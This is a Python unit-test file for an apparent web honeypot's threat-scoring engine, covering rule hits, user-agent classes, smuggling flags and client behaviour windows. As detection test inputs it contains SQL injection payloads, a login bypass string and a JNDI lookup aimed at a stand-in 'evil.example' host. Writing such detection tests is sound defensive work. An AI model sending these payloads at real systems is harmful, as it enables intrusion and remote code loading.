"""Threat scoring: rule hits on the request's views, problems, user agents and the client window."""

from __future__ import annotations

import pytest

from feint.camouflage.decoy.contract import Problem, Request
from feint.camouflage.engine import threat
from feint.shadow.rules import compile_matcher, rule_set, starter_rules

pytestmark = pytest.mark.unit

BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
MATCHER = compile_matcher(rule_set([r for r in starter_rules() if not r.post_response]))


def request(target: bytes, *, body: bytes = b"", agent: bytes | None = BROWSER, extra: tuple = ()) -> Request:
    headers = [(b"Host", b"shop.example")]
    if agent is not None:
        headers.append((b"User-Agent", agent))
    headers.extend(extra)
    method = b"POST" if body else b"GET"
    return Request(
        request_line=method + b" " + target + b" HTTP/1.1",
        method=method,
        target=target,
        version=b"HTTP/1.1",
        headers=tuple(headers),
        body=body,
        problems=frozenset(),
    )


def level(req: Request, *, history: list[threat.Reason] | None = None) -> threat.Assessment:
    record = threat.record_of(req, request_id="r1", client_ip="192.0.2.1")
    hits = threat.rule_hits(MATCHER, threat.views(record, req))
    return threat.assess(hits=hits, problems=req.problems, user_agent=record.cs_user_agent, history=history or [])


def test_benign_browser_request_is_zero() -> None:
    """A shopper's page view scores 0 with no reasons."""
    assessed = level(request(b"/products/12?page=2&sort=price"))
    assert assessed.level == 0 and assessed.reasons == ()


def test_rule_hit_weighted_by_level() -> None:
    """A high-level rule adds its LEVEL_WEIGHTS weight and names itself in the explanation."""
    assessed = level(request(b"/p?id=1+union+select+1"))
    assert assessed.level == 7
    assert assessed.explanation()[0]["signal"] == "rule" and assessed.rules


def test_percent_encoded_attack_seen_through_decoded_view() -> None:
    """Encoding the payload does not hide it: the decoded view fires the rule."""
    assert level(request(b"/p?id=1%2527%2520or%25201%253D1")).level >= 5  # double-encoded ' or 1=1


def test_body_read_as_query() -> None:
    """A payload in a form body fires the query rules."""
    assert level(request(b"/login", body=b"user=admin&pass=1' or '1'='1")).level >= 7


def test_header_values_as_keywords() -> None:
    """A JNDI lookup in any header fires the keyword rule."""
    assessed = level(request(b"/", extra=((b"X-Api-Version", b"${jndi:ldap://evil.example/a}"),)))
    assert assessed.level == 10


def test_user_agent_classes() -> None:
    """Scanners, missing agents, crawlers and libraries are told apart from browsers."""
    assert threat.user_agent_class("sqlmap/1.7.2#stable (https://sqlmap.org)") == "scanner"
    assert threat.user_agent_class(None) == "missing"
    assert threat.user_agent_class("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)") == (
        "crawler"
    )
    assert threat.user_agent_class("python-requests/2.31") == "crawler"
    assert threat.user_agent_class("OWASP CRS test agent") == "other"
    assert threat.user_agent_class(BROWSER.decode()) == "browser"
    assert level(request(b"/", agent=None)).level == threat.UA_MISSING_POINTS


def test_problems_add_points() -> None:
    """Framing problems a browser never causes add their points; unknown ones a default."""
    base = request(b"/")
    smuggled = Request(
        request_line=base.request_line,
        method=base.method,
        target=base.target,
        version=base.version,
        headers=base.headers,
        body=b"",
        problems=frozenset({Problem.CONTENT_LENGTH_AND_CHUNKED}),
    )
    assert level(smuggled).level == 7


def test_level_capped_at_ten() -> None:
    """However much evidence adds up, the level stays 0-10."""
    history = [threat.Reason("honeytoken", threat.HONEYTOKEN_POINTS, "x")] * 3
    assert level(request(b"/"), history=history).level == threat.THREAT_MAX


def test_window_behaviour_rate_errors_breadth() -> None:
    """Probing many missing paths fast shows up as breadth, 4xx share and rate."""
    window = threat.ClientWindow()
    for n in range(threat.RATE_REQUESTS_HIGH + 1):
        path = f"/probe-{n}"
        window.seen(1000.0 + n * 0.01, path)
        window.answered(path, 404)
    signals = {reason.signal for reason in threat.behaviour(window, now=1000.0 + threat.RATE_REQUESTS_HIGH * 0.01)}
    assert signals == {"rate", "errors", "breadth"}


def test_window_expires_old_events() -> None:
    """Events older than the window no longer count."""
    window = threat.ClientWindow()
    for n in range(30):
        window.seen(0.0, f"/gone-{n}")
        window.answered(f"/gone-{n}", 404)
    assert threat.behaviour(window, now=threat.WINDOW_SECONDS + 1) == []
    assert len(window.events) == 0


def test_window_bounded_and_round_trips() -> None:
    """A window holds at most WINDOW_EVENTS_MAX events and survives JSON (Redis) unchanged."""
    window = threat.ClientWindow()
    for n in range(threat.WINDOW_EVENTS_MAX * 2):
        window.seen(float(n), "/a")
    window.carry(1.0, [("rule-1", 4.0)])
    window.honeytokens = 1
    again = threat.ClientWindow.from_json(window.to_json())
    assert len(again.events) == threat.WINDOW_EVENTS_MAX
    assert list(again.events) == list(window.events) and list(again.carried) == list(window.carried)
    assert again.honeytokens == 1


def test_response_rules_carried() -> None:
    """A post-response rule hit counts for the client's next requests while in the window."""
    window = threat.ClientWindow()
    window.carry(10.0, [("r500", 4.0), ("r500", 4.0)])
    reasons = threat.behaviour(window, now=11.0)
    assert [(r.signal, r.points) for r in reasons] == [("response-rule", 4.0)]
